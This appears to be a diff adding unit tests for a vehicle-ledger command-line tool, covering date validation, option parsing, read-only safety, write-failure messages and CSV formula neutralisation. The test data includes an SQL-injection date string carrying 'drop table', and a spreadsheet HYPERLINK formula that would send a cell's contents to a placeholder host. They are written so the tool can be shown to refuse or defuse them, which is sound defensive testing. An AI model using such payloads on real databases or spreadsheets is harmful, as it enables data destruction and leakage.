@@ -1,0 +1,399 @@
+#include "clifixture.h"
+
+#include "alerts/rules.h"
+#include "cli/options.h"
+#include "store/failure.h"
+
+#include <QCoreApplication>
+#include <QTemporaryDir>
+
+#ifndef SQLITE_HAS_CODEC
+#define SQLITE_HAS_CODEC 1
+#endif
+#include <sqlite3.h>
+
+using namespace Qt::StringLiterals;
+using cli_test::CliTest;
+using cli_test::Outcome;
+using cli_test::Sha256;
+
+namespace {
+
+// ---- dates: exactly YYYY-MM-DD, anything else refused with the usage ------------------------
+
+struct DateForm {
+    const char* name;
+    QString text;
+};
+
+const DateForm kBadDates[] = {
+    {"Slashes", u"2026/01/01"_s},
+    {"TrailingStatement", u"2026-01-01'; drop table 总表; --"_s},
+    {"TrailingSpace", u"2026-01-01 "_s},
+    {"LeadingSpace", u" 2026-01-01"_s},
+    {"Empty", u""_s},
+    {"ShortFields", u"2026-1-1"_s},
+    {"NoDashes", u"20260101"_s},
+    {"NoSuchDay", u"2026-02-30"_s},
+    {"FullWidthDigits", u"２０２６-01-01"_s},
+    {"WithTime", u"2026-01-01T00:00"_s},
+};
+
+// Each date option of each command, with the rest of a valid command line.
+struct DateOption {
+    const char* name;
+    QStringList before, after; // the date goes between
+};
+
+const DateOption kDateOptions[] = {
+    {"AlertsToday", {u"alerts"_s, u"--today"_s}, {u"--dry-run"_s}},
+    {"ListToday", {u"list"_s, u"公司车辆台账清单"_s, u"--today"_s}, {}},
+    {"ShowToday", {u"show"_s, u"京A001"_s, u"--today"_s}, {}},
+    {"FeesFrom", {u"fees"_s, u"--to"_s, u"2026-12-31"_s, u"--from"_s}, {}},
+    {"FeesTo", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s}, {}},
+    {"ClaimsFrom", {u"claims"_s, u"--to"_s, u"2026-12-31"_s, u"--from"_s}, {}},
+    {"ClaimsToInline", {u"claims"_s, u"--from"_s, u"2026-01-01"_s, u"--to=%1"_s}, {}},
+};
+
+class DateFormTest : public CliTest, public testing::WithParamInterface<std::tuple<DateOption, DateForm>> {};
+
+QStringList withDate(const DateOption& option, const QString& date) {
+    QStringList args = option.before;
+    if (args.last().contains(u"%1"_s))
+        args.last() = args.last().arg(date);
+    else
+        args << date;
+    return args + option.after;
+}
+
+TEST_P(DateFormTest, RefusedWithTheUsage) {
+    const auto& [option, form] = GetParam();
+    EXPECT_FALSE(cli::StrictDate(form.text));
+    const std::string before = Sha256(dbPath());
+    const Outcome o = run(withDate(option, form.text));
+    EXPECT_EQ(o.status, 2) << o.err.toStdString();
+    EXPECT_TRUE(o.err.contains(u"YYYY-MM-DD"_s)) << o.err.toStdString();
+    EXPECT_TRUE(o.err.contains(u"用法：velmora-cli "_s + option.before.first())) << o.err.toStdString();
+    EXPECT_TRUE(o.out.isEmpty());
+    EXPECT_EQ(Sha256(dbPath()), before);
+}
+
+INSTANTIATE_TEST_SUITE_P(OptionsAndForms, DateFormTest,
+                         testing::Combine(testing::ValuesIn(kDateOptions), testing::ValuesIn(kBadDates)),
+                         [](const testing::TestParamInfo<DateFormTest::ParamType>& p) {
+                             return std::string(std::get<0>(p.param).name) + "_" + std::get<1>(p.param).name;
+                         });
+
+// The form the usage prints is taken, by every date option.
+TEST_F(CliTest, EveryDateOptionTakesTheUsageForm) {
+    for (const DateOption& option : kDateOptions) {
+        const Outcome o = run(withDate(option, u"2026-05-20"_s));
+        EXPECT_EQ(o.status, 0) << option.name << o.err.toStdString();
+    }
+    EXPECT_EQ(cli::StrictDate(u"2024-02-29"_s), QDate(2024, 2, 29));
+    EXPECT_EQ(cli::StrictDate(u"2023-02-29"_s), std::nullopt);
+}
+
+// ---- options: declared ones only, common ones everywhere -----------------------------------
+
+struct CommandLine {
+    const char* name;
+    QStringList args; // %D is the data directory, %F a fresh folder
+    int status;
+};
+
+const CommandLine kCommandLines[] = {
+    {"InitUnknownOption", {u"init"_s, u"--bogus"_s, u"--data-dir"_s, u"%F"_s}, 2},
+    {"InitArgument", {u"init"_s, u"extra"_s, u"--data-dir"_s, u"%F"_s}, 2},
+    {"InitDataDirWithoutValue", {u"init"_s, u"--data-dir"_s}, 2},
+    {"InitEmptyDataDir", {u"init"_s, u"--data-dir"_s, u""_s}, 2},
+    {"AlertsUnknownOption", {u"alerts"_s, u"--dry-run"_s, u"--verbose"_s}, 2},
+    {"AlertsFlagWithValue", {u"alerts"_s, u"--dry-run=yes"_s}, 2},
+    {"AlertsTodayTwice", {u"alerts"_s, u"--today"_s, u"2026-05-01"_s, u"--today"_s, u"2026-06-01"_s}, 2},
+    {"AlertsFormatNotAChoice", {u"alerts"_s, u"--format"_s, u"csv"_s}, 2},
+    {"AlertsArgument", {u"alerts"_s, u"now"_s}, 2},
+    {"ListOutputWithoutValue", {u"list"_s, u"公司车辆台账清单"_s, u"--output"_s}, 2},
+    {"ListOutputTakesNoOption", {u"list"_s, u"公司车辆台账清单"_s, u"--output"_s, u"--format"_s, u"csv"_s}, 2},
+    {"ListTwoTitles", {u"list"_s, u"公司车辆台账清单"_s, u"拉黑车辆清单"_s}, 2},
+    {"ListTitlesWithTitle", {u"list"_s, u"--titles"_s, u"拉黑车辆清单"_s}, 2},
+    {"ListSingleDashOption", {u"list"_s, u"-x"_s, u"公司车辆台账清单"_s}, 2},
+    {"FeesMissingTo", {u"fees"_s, u"--from"_s, u"2026-01-01"_s}, 2},
+    {"FeesPlateWithoutValue", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s, u"--plate"_s}, 2},
+    {"ClaimsClosedNotAChoice",
+     {u"claims"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s, u"--closed"_s, u"yes"_s},
+     2},
+    {"SearchTwoTexts", {u"search"_s, u"京A"_s, u"京B"_s}, 2},
+    {"SearchByNotAChoice", {u"search"_s, u"--by"_s, u"colour"_s, u"京A"_s}, 2},
+    {"ShowWithoutPlate", {u"show"_s}, 2},
+    {"BackupWithoutTarget", {u"backup"_s}, 2},
+    {"BackupTwoTargets", {u"backup"_s, u"%F/a.mdb"_s, u"%F/b.mdb"_s}, 2},
+    {"UpgradeArgument", {u"upgrade"_s, u"now"_s}, 2},
+    // Accepted: the common options with every command, in any place.
+    {"InitDataDir", {u"init"_s, u"--data-dir"_s, u"%F"_s}, 0},
+    {"InitDatabaseFile", {u"init"_s, u"--database"_s, u"%F/named.mdb"_s}, 0},
+    {"ListTitlesDataDir", {u"list"_s, u"--titles"_s, u"--data-dir"_s, u"%D"_s}, 0},
+    {"ListDataDirFirst",
+     {u"list"_s, u"--data-dir=%D"_s, u"公司车辆台账清单"_s, u"--format"_s, u"csv"_s, u"--today"_s, u"2026-03-01"_s},
+     0},
+    {"AlertsDatabaseFile", {u"alerts"_s, u"--dry-run"_s, u"--database"_s, u"%D/clxx.mdb"_s}, 0},
+    {"SearchDataDir", {u"search"_s, u"--data-dir"_s, u"%D"_s, u"--by"_s, u"owner"_s, u"张"_s}, 0},
+    {"SearchTextAfterDashes", {u"search"_s, u"--by"_s, u"owner"_s, u"--"_s, u"-张"_s}, 0},
+    {"ShowDatabase", {u"show"_s, u"--database"_s, u"%D/clxx.mdb"_s, u"京A001"_s}, 0},
+    {"FeesDataDir", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s, u"--data-dir"_s, u"%D"_s}, 0},
+    {"ClaimsDatabase",
+     {u"claims"_s, u"--database"_s, u"%D/clxx.mdb"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s},
+     0},
+    {"BackupDataDir", {u"backup"_s, u"%F/copy.mdb"_s, u"--data-dir"_s, u"%D"_s}, 0},
+    {"UpgradeDatabase", {u"upgrade"_s, u"--database"_s, u"%D/clxx.mdb"_s}, 0},
+    {"HelpWinsAnywhere", {u"fees"_s, u"--bogus"_s, u"--help"_s}, 0},
+    // A server's address is refused until this build can reach one, never quietly the file.
+    {"DatabaseServerUrl", {u"alerts"_s, u"--database"_s, u"postgresql://clerk@server/velmora"_s}, 1},
+    {"DatabaseSettings", {u"list"_s, u"--titles"_s, u"--database"_s, u"host=server dbname=velmora"_s}, 0},
+    {"DatabaseSettingsFees",
+     {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s, u"--database"_s, u"host=server"_s},
+     1},
+    {"InitServerUrl", {u"init"_s, u"--database"_s, u"postgres://server/velmora"_s}, 1},
+};
+
+class CommandLineTest : public CliTest, public testing::WithParamInterface<CommandLine> {};
+
+TEST_P(CommandLineTest, DeclaredOptionsOnly) {
+    const CommandLine& line = GetParam();
+    QTemporaryDir fresh;
+    ASSERT_TRUE(fresh.isValid());
+    QStringList args;
+    for (QString a : line.args)
+        args << a.replace(u"%D"_s, dataDir()).replace(u"%F"_s, fresh.path());
+    const std::string before = Sha256(dbPath());
+    const QStringList programFolder = QDir(QCoreApplication::applicationDirPath()).entryList(QDir::Files);
+    const Outcome o = run(args);
+    EXPECT_EQ(o.status, line.status) << o.err.toStdString();
+    if (line.status == 2) {
+        EXPECT_TRUE(o.err.contains(u"用法：velmora-cli "_s + args.first())) << o.err.toStdString();
+        EXPECT_TRUE(QDir(fresh.path()).isEmpty()) << "a refused command wrote";
+    }
+    if (line.status == 1) {
+        EXPECT_TRUE(o.err.contains(u"不支持的数据库地址"_s)) << o.err.toStdString();
+    }
+    if (QString::fromLatin1(line.name).startsWith(u"Init"_s) && line.status == 0) {
+        EXPECT_EQ(QDir(fresh.path()).entryList(QDir::Files).size(), 1);
+    }
+    // Nothing lands in the program's folder, whatever the outcome.
+    EXPECT_EQ(QDir(QCoreApplication::applicationDirPath()).entryList(QDir::Files), programFolder);
+    if (args.first() != u"upgrade"_s) {
+        EXPECT_EQ(Sha256(dbPath()), before);
+    }
+}
+
+INSTANTIATE_TEST_SUITE_P(Commands, CommandLineTest, testing::ValuesIn(kCommandLines),
+                         [](const testing::TestParamInfo<CommandLine>& p) { return std::string(p.param.name); });
+
+// ---- read-only: the reading commands and a dry run never change the file --------------------
+
+struct Reader {
+    const char* name;
+    QStringList args;
+    const char* stdoutHas;
+};
+
+const Reader kReaders[] = {
+    {"AlertsDryRunFuture", {u"alerts"_s, u"--dry-run"_s, u"--today"_s, u"2027-01-15"_s}, "拉黑车辆"},
+    {"ListFuture", {u"list"_s, u"公司车辆台账清单"_s, u"--today"_s, u"2027-01-15"_s}, "京A002"},
+    {"Fees", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s}, "\"rows\""},
+    {"Claims", {u"claims"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s}, "张三"},
+    {"Search", {u"search"_s, u"--by"_s, u"owner"_s, u"张"_s}, "京A001"},
+    {"Show", {u"show"_s, u"京A001"_s}, "下次审车日期"},
+};
+
+class ReadOnlyTest : public CliTest, public testing::WithParamInterface<Reader> {};
+
+// On the writable file (after the day's refresh has written its flags) each leaves the file
+// byte-identical; so on the same file made read-only in a read-only folder, run by a user who
+// cannot write it, where each still succeeds.
+TEST_P(ReadOnlyTest, FileStaysByteIdentical) {
+    const Reader& reader = GetParam();
+    ASSERT_EQ(run({u"alerts"_s, u"--today"_s, u"2026-05-20"_s}).status, 0);
+    const std::string before = Sha256(dbPath());
+    const QStringList folderBefore = QDir(dataDir()).entryList(QDir::Files);
+    QStringList writable = reader.args;
+    if (QString::fromLatin1(reader.name) == u"ListFuture"_s)
+        writable.last() = u"2026-05-25"_s; // the day's flags are written: nothing left to write
+    const Outcome onWritable = runChild(writable);
+    EXPECT_EQ(onWritable.status, 0) << onWritable.err.toStdString();
+    EXPECT_TRUE(onWritable.out.contains(QString::fromUtf8(reader.stdoutHas))) << onWritable.out.toStdString();
+    EXPECT_EQ(Sha256(dbPath()), before);
+
+    const auto readable = QFileDevice::ReadOwner | QFileDevice::ReadGroup | QFileDevice::ReadOther;
+    const auto enterable = readable | QFileDevice::ExeOwner | QFileDevice::ExeGroup | QFileDevice::ExeOther;
+    ASSERT_TRUE(QFile::setPermissions(dbPath(), readable));
+    ASSERT_TRUE(QFile::setPermissions(dataDir(), enterable));
+    const Outcome onReadOnly = runChild(reader.args, true);
+    QFile::setPermissions(dataDir(), enterable | QFileDevice::WriteOwner);
+    QFile::setPermissions(dbPath(), readable | QFileDevice::WriteOwner);
+    EXPECT_EQ(onReadOnly.status, 0) << onReadOnly.err.toStdString();
+    EXPECT_TRUE(onReadOnly.out.contains(QString::fromUtf8(reader.stdoutHas))) << onReadOnly.out.toStdString();
+    EXPECT_EQ(Sha256(dbPath()), before);
+    EXPECT_EQ(QDir(dataDir()).entryList(QDir::Files), folderBefore);
+    // list computes the flags it cannot write and says so, without failing.
+    if (QString::fromLatin1(reader.name) == u"ListFuture"_s) {
+        EXPECT_TRUE(onReadOnly.err.contains(u"脱期标志未写入"_s)) << onReadOnly.err.toStdString();
+    }
+}
+
+INSTANTIATE_TEST_SUITE_P(Readers, ReadOnlyTest, testing::ValuesIn(kReaders),
+                         [](const testing::TestParamInfo<Reader>& p) { return std::string(p.param.name); });
+
+// A dry run prints the tree the refresh would write, from a read-only copy elsewhere too.
+TEST_F(CliTest, DryRunOnAReadOnlyCopyShowsTheSameTree) {
+    const Outcome live = run({u"alerts"_s, u"--dry-run"_s, u"--today"_s, u"2026-05-20"_s, u"--format"_s, u"json"_s});
+    ASSERT_EQ(live.status, 0) << live.err.toStdString();
+    QTemporaryDir copyDir;
+    const QString copy = QDir(copyDir.path()).filePath(u"copy.mdb"_s);
+    ASSERT_TRUE(QFile::copy(dbPath(), copy));
+    ASSERT_TRUE(QFile::setPermissions(copy, QFileDevice::ReadOwner));
+    const std::string before = Sha256(copy);
+    const Outcome o = run(
+        {u"alerts"_s, u"--dry-run"_s, u"--today"_s, u"2026-05-20"_s, u"--format"_s, u"json"_s, u"--database"_s, copy});
+    EXPECT_EQ(o.status, 0) << o.err.toStdString();
+    EXPECT_EQ(o.out, live.out);
+    EXPECT_TRUE(o.out.contains(u"京A001"_s));
+    EXPECT_EQ(Sha256(copy), before);
+    EXPECT_EQ(QDir(copyDir.path()).entryList(QDir::Files), QStringList{u"copy.mdb"_s});
+}
+
+// ---- the reason of a failed flag write -----------------------------------------------------
+
+struct FailureCase {
+    const char* name;
+    int code;
+    store::FailureKind kind;
+    const char* notice;
+};
+
+const FailureCase kFailures[] = {
+    {"Busy", SQLITE_BUSY, store::FailureKind::Busy, "预警标记写入失败：数据库正忙，请稍后刷新。"},
+    {"Locked", SQLITE_LOCKED, store::FailureKind::Busy, "预警标记写入失败：数据库正忙，请稍后刷新。"},
+    {"ReadOnly", SQLITE_READONLY, store::FailureKind::ReadOnly, "预警标记写入失败：数据库文件只读。"},
+    {"JournalNotMade", SQLITE_CANTOPEN, store::FailureKind::ReadOnly, "预警标记写入失败：数据库文件只读。"},
+    {"Full", SQLITE_FULL, store::FailureKind::DiskFull, "预警标记写入失败：磁盘已满。"},
+    {"Corrupt", SQLITE_CORRUPT, store::FailureKind::Corrupt, "预警标记写入失败：数据库文件损坏。"},
+    {"NotADatabase", SQLITE_NOTADB, store::FailureKind::Corrupt, "预警标记写入失败：数据库文件损坏。"},
+    {"IoErrorWrite", SQLITE_IOERR_WRITE, store::FailureKind::IoError, "预警标记写入失败：读写数据库文件出错。"},
+    {"Other", SQLITE_CONSTRAINT, store::FailureKind::Other, "预警标记写入失败：constraint failed"},
+};
+
+class FailureReasonTest : public testing::TestWithParam<FailureCase> {};
+
+TEST_P(FailureReasonTest, NamesTheCause) {
+    const FailureCase& c = GetParam();
+    EXPECT_EQ(store::FailureKindOfSqliteCode(c.code), c.kind);
+    EXPECT_EQ(alerts::FlagWriteFailedMessage(c.kind, QString::fromUtf8(sqlite3_errstr(c.code))),
+              QString::fromUtf8(c.notice));
+}
+
+INSTANTIATE_TEST_SUITE_P(SqliteCodes, FailureReasonTest, testing::ValuesIn(kFailures),
+                         [](const testing::TestParamInfo<FailureCase>& p) { return std::string(p.param.name); });
+
+// The real causes, through velmora-cli as the operator meets them: a read-only file, a full disk
+// (a file-size limit on the child), and a held lock; only the last one says busy.
+TEST_F(CliTest, FlagWriteFailureSaysWhy) {
+    const QStringList args = {u"alerts"_s, u"--today"_s, u"2026-05-20"_s};
+    const std::string before = Sha256(dbPath());
+
+    const auto readable = QFileDevice::ReadOwner | QFileDevice::ReadGroup | QFileDevice::ReadOther;
+    const auto folder = QFile::permissions(dataDir());
+    ASSERT_TRUE(QFile::setPermissions(dbPath(), readable));
+    ASSERT_TRUE(QFile::setPermissions(dataDir(), folder | QFileDevice::ExeOther | QFileDevice::ReadOther));
+    const Outcome readOnly = runChild(args, true);
+    QFile::setPermissions(dbPath(), readable | QFileDevice::WriteOwner);
+    QFile::setPermissions(dataDir(), folder);
+    EXPECT_EQ(readOnly.status, 1);
+    EXPECT_TRUE(readOnly.err.contains(u"预警标记写入失败：数据库文件只读。"_s)) << readOnly.err.toStdString();
+
+    // A full disk: the file on a small file system with no block left (where this process may
+    // mount one; else a limit on the size of files the child may write, which SQLite meets as an
+    // I/O error). The journal fails before the file is touched.
+    cli_test::SmallDisk disk;
+    if (disk.mounted()) {
+        const QString onDisk = disk.path() + u"/clxx.mdb"_s;
+        ASSERT_TRUE(QFile::copy(dbPath(), onDisk));
+        disk.fill();
+        const Outcome full = runChild(args + QStringList{u"--database"_s, onDisk});
+        EXPECT_EQ(full.status, 1);
+        EXPECT_TRUE(full.err.contains(u"预警标记写入失败：磁盘已满。"_s)) << full.err.toStdString();
+        EXPECT_EQ(Sha256(onDisk), before);
+    } else {
+        const Outcome limited = runChild(args, false, u"ulimit -f 9; trap '' XFSZ"_s);
+        EXPECT_EQ(limited.status, 1);
+        EXPECT_TRUE(limited.err.contains(u"预警标记写入失败：读写数据库文件出错。"_s)) << limited.err.toStdString();
+        EXPECT_FALSE(limited.err.contains(u"正忙"_s));
+    }
+
+    sqlite3* holder = nullptr;
+    ASSERT_EQ(sqlite3_open_v2(QFile::encodeName(dbPath()).constData(), &holder, SQLITE_OPEN_READWRITE, nullptr),
+              SQLITE_OK);
+    const QByteArray key = store::kDatabasePassword.toUtf8();
+    sqlite3_key(holder, key.constData(), int(key.size()));
+    ASSERT_EQ(sqlite3_exec(holder, "BEGIN IMMEDIATE", nullptr, nullptr, nullptr), SQLITE_OK);
+    store::DatabaseConnection db;
+    ASSERT_TRUE(db.OpenDatabaseFile(dbPath(), store::kDatabasePassword, store::ConnectionSharing::Private));
+    db.SetBusyTimeout(100);
+    const alerts::AlertResult busy = alerts::ComputeAlerts(db, QDate(2026, 5, 1));
+    sqlite3_exec(holder, "ROLLBACK", nullptr, nullptr, nullptr);
+    sqlite3_close(holder);
+    EXPECT_EQ(busy.messages, QStringList{alerts::kFlagWriteFailedMessage});
+    EXPECT_EQ(busy.flagWriteFailure, store::FailureKind::Busy);
+}
+
+// ---- CSV cells that a spreadsheet would run as formulas ------------------------------------
+
+struct FormulaCase {
+    const char* name;
+    const char* field; // which claim field holds the text
+    QString text;
+    QString csv; // the CSV field written
+};
+
+const FormulaCase kFormulas[] = {
+    {"EqualsInOwner", "owner", u"=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"_s,
+     u"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\""_s},
+    {"MinusInPlate", "plate", u"-2+3"_s, u"'-2+3"_s},
+    {"AtInRemarks", "remarks", u"@x"_s, u"'@x"_s},
+    {"PlusInPhone", "phone", u"+86 138"_s, u"'+86 138"_s},
+    {"TabInRemarks", "remarks", u"\tcmd"_s, u"'\tcmd"_s},
+    {"CarriageReturnInRemarks", "remarks", u"\r=1+1"_s, u"\"'\r=1+1\""_s},
+    {"FormulaTypedAsAmount", "amount", u"=1+1"_s, u"'=1+1"_s},
+    {"NegativeAmountIsANumber", "amount", u"-50"_s, u"-50"_s},
+    {"PlainText", "remarks", u"已赔付"_s, u"已赔付"_s},
+    {"MinusInside", "remarks", u"a-b"_s, u"a-b"_s},
+};
+
+class FormulaTest : public CliTest, public testing::WithParamInterface<FormulaCase> {};
+
+TEST_P(FormulaTest, CsvNeutralisesFormulaStarts) {
+    const FormulaCase& f = GetParam();
+    claims::Claim c = newClaim(u"2026-04-01"_s, u"京A009"_s, u"李四"_s, u"100"_s);
+    const QString field = QString::fromLatin1(f.field);
+    (field == u"owner"_s    ? c.owner
+     : field == u"plate"_s  ? c.plate
+     : field == u"phone"_s  ? c.phone
+     : field == u"amount"_s ? c.amount
+                            : c.remarks) = f.text;
+    claim(c);
+    const Outcome o = run({u"claims"_s, u"--from"_s, u"2026-04-01"_s, u"--to"_s, u"2026-04-01"_s, u"--format"_s,
+                           u"csv"_s, u"--plate"_s, c.plate});
+    ASSERT_EQ(o.status, 0) << o.err.toStdString();
+    const QStringList lines = o.out.split(u"\r\n"_s);
+    ASSERT_GE(lines.size(), 2) << o.out.toStdString();
+    EXPECT_TRUE((u","_s + lines.at(1) + u","_s).contains(u","_s + f.csv + u","_s))
+        << lines.at(1).toStdString() << " / " << f.csv.toStdString();
+    // JSON keeps the text as it is.
+    const Outcome json =
+        run({u"claims"_s, u"--from"_s, u"2026-04-01"_s, u"--to"_s, u"2026-04-01"_s, u"--plate"_s, c.plate});
+    EXPECT_FALSE(json.out.contains(u"\"'"_s)) << json.out.toStdString();
+}
+
+INSTANTIATE_TEST_SUITE_P(Prefixes, FormulaTest, testing::ValuesIn(kFormulas),
+                         [](const testing::TestParamInfo<FormulaCase>& p) { return std::string(p.param.name); });
+
+} // namespace
